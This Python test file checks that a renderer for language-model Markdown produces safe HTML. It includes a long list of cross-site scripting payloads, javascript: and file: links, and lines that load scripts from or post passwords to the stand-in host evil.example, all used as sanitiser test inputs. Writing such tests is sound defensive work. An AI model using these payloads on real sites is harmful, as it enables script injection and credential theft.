"""Markdown from a language model as safe HTML: how it looks, what never passes, and what it may cost."""

import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.rendering import RENDERER, cost, render_answer, render_question, trusted

TAGS = set(
    "p br hr strong em del code pre blockquote ul ol li h3 h4 h5 h6 table thead tbody tr th td div span a".split()  # noqa: SIM905
)
ATTRIBUTES = {
    "a": {"href", "rel"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "li": {"class"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "span": {"class", "title"},
    "td": {"class"},
    "th": {"class"},
}
CLASSES = re.compile(
    r"highlight|plain|table-scroll|link-host|hidden-character|task|task-state|align-(left|center|right)|[a-z][a-z0-9]{0,2}"
)


class Walker(HTMLParser):
    """Reads HTML as tokens: ("start", tag, attributes), ("end", tag) and ("text", words)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tokens: list[tuple[str, str, tuple[tuple[str, str], ...]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tokens.append(("start", tag, tuple(sorted((name, value or "") for name, value in attrs))))

    def handle_endtag(self, tag: str) -> None:
        self.tokens.append(("end", tag, ()))

    def handle_data(self, data: str) -> None:
        if self.tokens and self.tokens[-1][0] == "text":
            data = self.tokens.pop()[1] + data
        self.tokens.append(("text", data, ()))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def text_in(html: str) -> str:
    return "".join(words for kind, words, _ in Walker(html).tokens if kind == "text")


def links_in(html: str) -> list[str]:
    return [dict(attrs)["href"] for kind, tag, attrs in Walker(html).tokens if (kind, tag) == ("start", "a")]


def assert_harmless(html: str) -> None:
    """Against an allow-list of this test's own."""
    for kind, tag, attrs in Walker(html).tokens:
        if kind != "start":
            continue
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "class":
                assert all(CLASSES.fullmatch(word) for word in value.split()), value
            if name == "href":
                assert re.match(r"(https?://[^/\s]|mailto:)", value), value
            if name == "rel":
                assert value == "noopener noreferrer nofollow"
        if tag == "a":
            assert {name for name, _ in attrs} == {"href", "rel"}


def assert_nh3_agrees(html: str) -> None:
    """A second opinion: ammonia, with the same allow-list, would remove nothing."""
    attributes = {tag: set(names) - {"rel"} for tag, names in ATTRIBUTES.items()}
    cleaned = nh3.clean(
        html,
        tags=TAGS,
        attributes=attributes,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )
    assert Walker(cleaned).tokens == Walker(html).tokens


def squeeze(html: str) -> str:
    return re.sub(r">\s+<", "><", html.strip())


def test_it_works() -> None:
    made = render_answer("### Top 5\n\n1. **Sunglasses** - $678,994\n2. **Jeans** - $475,072")
    assert squeeze(made.html) == (
        "<h3>Top 5</h3><ol><li><strong>Sunglasses</strong> - $678,994</li><li><strong>Jeans</strong> - $475,072</li></ol>"
    )
    assert made.plain_because == ""
    assert RENDERER >= 1
    assert trusted(made.html) == made.html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("plain", "<p>plain</p>"),
        ("*a* **b** ***c*** ~~d~~ `e`", "<p><em>a</em> <strong>b</strong> <strong><em>c</em></strong> <del>d</del> <code>e</code></p>"),
        ("snake_case_name and order_items.total", "<p>snake_case_name and order_items.total</p>"),
        ("one  \ntwo", "<p>one<br>\ntwo</p>"),
        ("one<br>two<br/>three", "<p>one<br>two<br>three</p>"),
        ("> quoted", "<blockquote><p>quoted</p></blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
        # A list straight after a paragraph, as models write it.
        ("Here:\n- a\n- b", "<p>Here:</p><ul><li>a</li><li>b</li></ul>"),
        ("Steps:\n1) a\n2) b", "<p>Steps:</p><ol><li>a</li><li>b</li></ol>"),
        ("It was\n1998. A good year", "<p>It was\n1998. A good year</p>"),
        ("- a\n  - b\n    - c\n- d", "<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ul>"),
        ("1. a\n   - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
        ("- a\n    - b\n        - c", "<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li></ul>"),
        ("- a\n1. b", "<ul><li>a</li></ul><ol><li>b</li></ol>"),
        ("- a\n\n  more of a\n- b", "<ul><li><p>a</p><p>more of a</p></li><li><p>b</p></li></ul>"),
        ("3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'),
        ("- [x] done\n- [ ] to do", '<ul><li class="task"><span class="task-state">☑</span> done</li><li class="task"><span class="task-state">☐</span> to do</li></ul>'),
        # Headings begin below the page's own, in order.
        ("# A\n## B\n# C", "<h3>A</h3><h4>B</h4><h3>C</h3>"),
        ("### A\n# B", "<h3>A</h3><h3>B</h3>"),
        ("# A\n###### B", "<h3>A</h3><h4>B</h4>"),
    ],
)  # fmt: skip
def test_markdown_looks_as_it_was_meant(markdown: str, html: str) -> None:
    assert squeeze(render_answer(markdown).html) == html


def test_a_table_right_after_a_paragraph_is_a_table() -> None:
    html = squeeze(render_answer("The numbers:\n| A | B |\n|---|---:|\n| a<br>b | 1,200 |").html)
    assert html == (
        '<p>The numbers:</p><div class="table-scroll" role="group" tabindex="0" aria-label="Table"><table>'
        '<thead><tr><th>A</th><th class="align-right">B</th></tr></thead>'
        '<tbody><tr><td>a<br>b</td><td class="align-right">1,200</td></tr></tbody></table></div>'
    )


@pytest.mark.parametrize("language", ["sql", "SQL", "python", "json", "yaml", "", "c++ title='x'", "nonsense{1,2}"])
def test_code_is_code_in_any_language(language: str) -> None:
    html = render_answer(f"```{language}\nSELECT '<b>' -- *not* emphasis\n```").html
    assert '<div class="highlight"><pre tabindex="0">' in html
    assert text_in(html).strip() == "SELECT '<b>' -- *not* emphasis"


def test_known_languages_are_coloured() -> None:
    assert '<span class="k">SELECT</span>' in render_answer("```sql\nSELECT 1\n```").html
    assert 'class="k"' not in render_answer("```\nSELECT 1\n```").html


@pytest.mark.parametrize("fence", ["```", "~~~", "`````"])
@pytest.mark.parametrize("indent", ["", "  ", "   ", "    "])
def test_code_stands_inside_lists(fence: str, indent: str) -> None:
    text = f"1. first\n\n{indent}{fence}sql\n{indent}SELECT 1\n{indent}  FROM t\n{indent}{fence}\n\nend"
    html = render_answer(text).html
    assert "SELECT 1\n  FROM t\n" in text_in(html)
    assert ("</pre></div>\n</li>" in html) is bool(indent)


def test_code_that_was_cut_off_is_still_code() -> None:
    html = render_answer("Look:\n```sql\nSELECT [a](b) FROM t").html
    assert "SELECT [a](b) FROM t" in text_in(html)
    assert links_in(html) == []


def test_a_fence_within_a_fence_stays_inside() -> None:
    html = render_answer("````markdown\n```sql\nSELECT 1\n```\n````\nafter").html
    assert html.count("<pre") == 1
    assert "```sql\nSELECT 1\n```" in text_in(html)


def test_html_in_an_answer_is_shown_as_the_text_it_is() -> None:
    for text in (
        "<script>alert(1)</script>",
        "<b>bold</b>",
        "<!-- comment -->",
        "a <kbd>Ctrl</kbd> b",
        "<div>\n\n*x*\n\n</div>",
    ):
        html = render_answer(text).html
        assert re.sub(r"[*\s]", "", text) == re.sub(r"\s", "", text_in(html))
        assert_harmless(html)


@pytest.mark.parametrize(
    ("markdown", "href", "text"),
    [
        ("[docs](https://docs.example/a)", "https://docs.example/a", "docs (docs.example)"),
        ("<https://docs.example/a>", "https://docs.example/a", "https://docs.example/a"),
        ("https://docs.example/a?x=1&copy=2", "https://docs.example/a?x=1&copy=2", "https://docs.example/a?x=1&copy=2"),
        ("[docs.example](https://docs.example)", "https://docs.example", "docs.example"),
        ("[https://good.example](https://evil.example)", "https://evil.example", "https://good.example (evil.example)"),
        ("[x](https://good.example@evil.example/)", "https://good.example@evil.example/", "x (evil.example)"),
        ("[x](https://evil.example:8080/)", "https://evil.example:8080/", "x (evil.example:8080)"),
        ("[аррӏе.com](https://аррӏе.com)", "https://аррӏе.com", "аррӏе.com (xn--80ak6aa92e.com)"),
        ("[write](mailto:a@b.example)", "mailto:a@b.example", "write (a@b.example)"),
        ("<a@b.example>", "mailto:a@b.example", "a@b.example"),
        ("![alt](https://i.example/p.png)", "https://i.example/p.png", "image: alt (i.example)"),
        ("[![alt](https://i.example/p.png)](https://l.example/)", "https://l.example/", "image: alt (l.example)"),
        ("[x][r]\n\n[r]: https://r.example 'title'", "https://r.example", "x (r.example)"),
    ],
)
def test_links_show_where_they_lead(markdown: str, href: str, text: str) -> None:
    html = render_answer(markdown).html
    assert links_in(html) == [href]
    assert text_in(html).strip() == text
    assert_harmless(html)


def test_punctuation_behind_an_address_is_not_part_of_it() -> None:
    html = render_answer("(see https://a.example/x_(y)). And https://b.example, or https://c.example/!").html
    assert links_in(html) == ["https://a.example/x_(y)", "https://b.example", "https://c.example/"]


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](file:///etc/passwd)",
        "[x](ftp://a.example/)",
        "[x](//evil.example)",
        "[x](/sign-out/)",
        "[x](#main)",
        "[x](?next=/)",
        "[x](https:evil.example)",
        "[x](https:///evil.example)",
        "[x](http://)",
        "[x](https://a.example:bad/)",
        "[x](https://[bad/)",
        "[x](https://evil.example\\@good.example)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](/static/img/logo.svg)",
        "<javascript:alert(1)>",
        "[x]\n\n[x]: javascript:alert(1)",
        "`https://in.code.example`",
        "users.id orders.name example.com",
        "[x](https://a.example/\u202e)\u200b"[:0] or "www.example.com",
    ],
)
def test_what_is_no_honest_link_is_its_text(markdown: str) -> None:
    html = render_answer(markdown).html
    assert links_in(html) == []
    assert_harmless(html)
    assert text_in(html).strip()


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=https://evil.example>",
    "<object data=x><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!doctype html><html><body onload=alert(1)>",
    "<div id=main name=next style='position:fixed'>x</div>",
    '**<b onclick="alert(1)">**',
    "[a](https://x.example 'onmouseover=alert(1)')",
    '[a](https://x.example "x\\" onmouseover=\\"alert(1)")',
    '[a](https://x.example/"onmouseover="alert(1))',
    '![a" onerror="alert(1)](https://x.example/i.png)',
    '![a](https://x.example/i.png"onerror="alert(1))',
    "```<script>\nalert(1)\n```",
    "``` sql onclick=alert(1)\nx\n```",
    "```{.python #main onclick=alert(1)}\nx\n```",
    "~~~ {: #main .flash }\nx\n~~~",
    "paragraph\n{: #main onclick=alert(1) }",
    "# heading {#main}",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| a {colspan=2} |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<https://x.example/?<script>alert(1)</script>>",
    "https://x.example/'onmouseover='alert(1)",
    'https://x.example/"><script>alert(1)</script>',
    "[x](<https://x.example/><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "[x](https://x.example/&quot;onclick=alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=`javascript:alert(1)`>",
    "<p/onclick=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x0260\x03script\x0262\x03",
    "\x00<script\x00>alert(1)</script>",
    "<br onload=alert(1)>",
    "<br/ onload=alert(1)>",
    "* [x](javascript:alert(1)\n* ![y](x onerror=alert(1))",
    "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
    "1. <script>\n2. alert(1)\n3. </script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "Term\n: <script>alert(1)</script>",
    "!!! note \"<script>alert(1)</script>\"\n    text",
    "[TOC]",
    "$$<script>alert(1)</script>$$",
    "<div markdown=1 onclick=alert(1)>*x*</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video autoplay src=https://evil.example/v.mp4 onplay=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><td>x",
    "<a href='https://evil.example' target=_blank style='font-size:99px'>x</a>",
    "\u202e<script>alert(1)</script>\u202c",
    "\ud800 half a pair",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_passes(text: str) -> None:
    for made in (render_answer(text), render_question(text)):
        assert_harmless(made.html)
        assert_nh3_agrees(made.html)
        assert made.html.encode()


@pytest.mark.parametrize(
    ("character", "name"),
    [
        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("\u200b", "U+200B ZERO WIDTH SPACE"),
        ("\u00ad", "U+00AD SOFT HYPHEN"),
        ("\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("\u2028", "U+2028 LINE SEPARATOR"),
        ("\U000e0041", "U+E0041 TAG LATIN CAPITAL LETTER A"),
        ("\u200d", "U+200D ZERO WIDTH JOINER"),
    ],
)
def test_hidden_characters_are_shown(character: str, name: str) -> None:
    shown = f'<span class="hidden-character" title="{name}">{name.split(maxsplit=1)[0]}</span>'
    for text in (f"in{character}voice", f"`in{character}voice`", f"- a\n- in{character}voice"):
        assert f"in{shown}voice" in render_answer(text).html
    assert f"in{shown}voice" in render_question(f"in{character}voice").html


def test_hidden_characters_spelled_as_entities_are_shown_too() -> None:
    assert "U+202E</span>" in render_answer("a&#8238;b &#x202E;").html


@pytest.mark.parametrize(
    "text", ["👩🏽‍💻", "🏳️‍🌈", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "می‌خواهم", "क्‍ष", "🇸🇪"]
)
def test_emoji_and_scripts_that_need_joiners_stay_whole(text: str) -> None:
    assert text in render_answer(text).html
    assert text in render_question(text).html


def test_control_characters_become_their_pictures() -> None:
    assert render_question("a\x08b\x1bc\x7f\r\nd").html == '<p class="plain">a␈b␛c␡\nd</p>'


def test_questions_keep_their_lines_and_are_never_markdown() -> None:
    made = render_question("# not a heading\n  **x** <b>\n\n[a](https://x.example)")
    assert made.html == '<p class="plain"># not a heading\n  **x** &lt;b&gt;\n\n[a](https://x.example)</p>'
    assert made.plain_because == ""


def _real() -> Iterator[tuple[str, str]]:
    cell = "**[style](https://shop.example/p/1)** `x_1`"
    yield (
        "a table of 40 rows and 14 columns of links",
        "|a" * 14 + "|\n" + "|---" * 14 + "|\n" + ("|" + f" {cell} |" * 14 + "\n") * 40,
    )
    yield (
        "a report of 20,000 characters",
        "\n\n".join(
            f"## Part {n}\n\n" + "Some *words* on `order_items.total`, see [docs](https://docs.example). " * 8
            for n in range(32)
        ),
    )
    yield (
        "a list of 200 items with links",
        "\n".join(f"- **Item {n}**: see [page {n}](https://shop.example/{n}), `field_{n}`" for n in range(200)),
    )
    yield "a nested list", "\n".join("  " * (n % 6) + f"- item {n}" for n in range(200))
    yield "300 lines of SQL", "```sql\n" + "SELECT a.*, b[1], c_d_e FROM t_1 AS a -- *note*\n" * 300 + "```"
    yield "two tables of 300 rows", ("| a | b | c |\n|---|---|---|\n" + "| x_y | **1** | `2` |\n" * 300 + "\n") * 2


@pytest.mark.parametrize("text", [text for _, text in _real()], ids=[name for name, _ in _real()])
def test_real_answers_are_formatted(text: str) -> None:
    made = render_answer(text)
    assert made.plain_because == ""
    assert_harmless(made.html)


def _shapes() -> Iterator[str]:
    """The shapes that a search over combinations of Markdown's marks found to cost most (benchmark_rendering.py)."""
    for unit in (
        "[", "![", "[[", "[a](", "[a](<", "[a][", "[]", "](", "(", "((", "*", "_", "**a", "*a_", "~~a", "`", "`a ``", "<", "<a ", "<!--",
        "&", "&#x", "\\", "> ", ">", "- ", "-\t", "- \t", "-  1.\t", "1. ", "1.\n", "# a\n", "a\n=\n", "|", "|\n", "| a ", "||-|\n", "|-|\n> ",
        "|-|\n-A=[amp;```", "|-|\n[a](- ", "'\t", "\n-", ")>", "http://", "<http://", "https://a.b/:", "http://[a](", "1.[<http://",
        "[***ahttp://", "[a]: x\n", "```\n", "~~~a\n", "<br>", "a@b.", "\n", " ", "\t", "\u200b", "W",
    ):  # fmt: skip
        yield unit
    yield "".join("  " * depth + "- a\n" for depth in range(300))
    yield "".join(">" * depth + " a\n" for depth in range(300))


@pytest.mark.parametrize("size", [5_000, cost.LONGEST, 500_000])
@pytest.mark.parametrize("unit", list(_shapes()), ids=lambda unit: repr(unit)[:30])
def test_no_text_costs_more_than_a_bounded_time(unit: str, size: int) -> None:
    text = (unit * (size // len(unit) + 1))[:size]
    start = time.process_time()
    made = render_answer(text)
    # Without the bounds the worst of these take minutes; with them about two seconds on the slowest machine known.
    assert time.process_time() - start < 6
    assert_harmless(made.html)
    if made.plain_because:
        assert made.plain_because in (cost.TOO_LONG, cost.TOO_INTRICATE)
        assert text_in(made.html).replace("\N{REPLACEMENT CHARACTER}", "")


def test_what_is_too_long_or_intricate_is_shown_whole_as_plain_text() -> None:
    text = "[" * 5_000 + "\nnext <line>"
    made = render_answer(text)
    assert made.plain_because == "This answer is too intricate to be formatted, so it is shown as plain text."
    assert text_in(made.html) == text
    long = "word " * 20_000
    assert render_answer(long).plain_because == "This answer is too long to be formatted, so it is shown as plain text."
    assert text_in(render_answer(long).html) == long


def test_a_parser_that_fails_costs_the_format_not_the_text(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(_: str) -> str:
        raise RecursionError

    monkeypatch.setattr("conversations.rendering._markdown", fail)
    made = render_answer("secret *text*")
    assert made.plain_because
    assert text_in(made.html) == "secret *text*"
    assert "RecursionError" in caplog.text
    assert "secret" not in caplog.text


markdown_like = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "# ",
                "## ",
                "- ",
                "  - ",
                "1. ",
                "> ",
                "```",
                "```sql\n",
                "~~~",
                "**",
                "*",
                "_",
                "`",
                "~~",
                "[",
                "](",
                ")",
                "![",
                "<",
                ">",
                "</",
                "<br>",
                "&lt;",
                "&#106;",
                "\\",
                "",
                "",
                "---",
                "\n",
                "\n\n",
                "  \n",
                "    ",
                "https://a.b",
                "javascript:",
                "<script>",
                "onerror=",
                '"',
                "'",
                "=",
                "\u202e",
                "\u200d",
                "[x] ",
                ": ",
            ]
        ),
        st.text(max_size=12),
        st.sampled_from(HOSTILE),
    ),
    max_size=14,
).map("".join)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(markdown_like)
def test_any_text_gives_harmless_html_that_nh3_would_not_touch(text: str) -> None:
    made = render_answer(text)
    assert_harmless(made.html)
    assert_nh3_agrees(made.html)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(
    st.lists(st.text(alphabet="abcdefghijklmnop", min_size=1, max_size=8), min_size=1, max_size=30),
    st.sampled_from([" ", "\n", "\n\n", "\n- ", "\n  - ", "\n1. ", "\n> ", " *", " [", " <", "\n| ", "\n```\n"]),
)
def test_no_word_is_lost(words: list[str], between: str) -> None:
    shown = re.findall("[a-p]+", re.sub(r"\s", " ", text_in(render_answer(between.join(words)).html)))
    assert "".join(shown) == "".join(words)
